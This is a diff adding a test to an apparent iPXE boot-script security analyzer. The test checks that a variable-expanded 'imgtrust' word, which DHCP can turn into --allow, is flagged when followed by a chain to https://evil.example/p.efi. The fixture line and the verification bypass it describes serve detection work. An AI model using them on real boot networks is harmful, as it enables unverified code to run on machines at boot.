@@ -611,6 +611,22 @@ def test_a_command_the_model_does_not_know_does_not_end_the_path(first: str) -> 
     assert "'chain' can execute" in (info.unguarded or ""), info.unguarded
 
 
+
+@pytest.mark.parametrize("line", ["imgtrust ${o}", "imgtrust --permanent ${o}",
+                                  "imgtrust ${209:string}"])
+def test_a_computed_imgtrust_word_may_allow_unverified_images(line: str) -> None:
+    """iPXE expands the words before reading the options: `imgtrust ${o}` with o=--allow
+    (a setting the segment's DHCP can give) is `imgtrust --allow`, with --permanent for
+    good. The model read the word unexpanded, took trust as required and every later
+    boot as guarded (a review's finding); such a line may allow unverified images."""
+    script = f"#!ipxe\n{line}\nchain https://evil.example/p.efi\n".encode()
+    info = loaders.identify(script)
+    assert info.kind == "ipxe-script" and info.imgverify is False, info
+    assert "'chain' can execute" in (info.unguarded or ""), info.unguarded
+    # once trust is permanent, iPXE refuses the change (EACCES): still guarded
+    fixed = f"#!ipxe\nimgtrust --permanent\n{line}\nchain https://a/p.efi\n".encode()
+    assert loaders.identify(fixed).unguarded is None
+
 # iPXE expands ${...} in every token, the command name included (exec.c: expand_tokens()
 # then execv(argv[0])): each of these chains an unverified image on a real iPXE.
 COMPUTED_NAMES = {
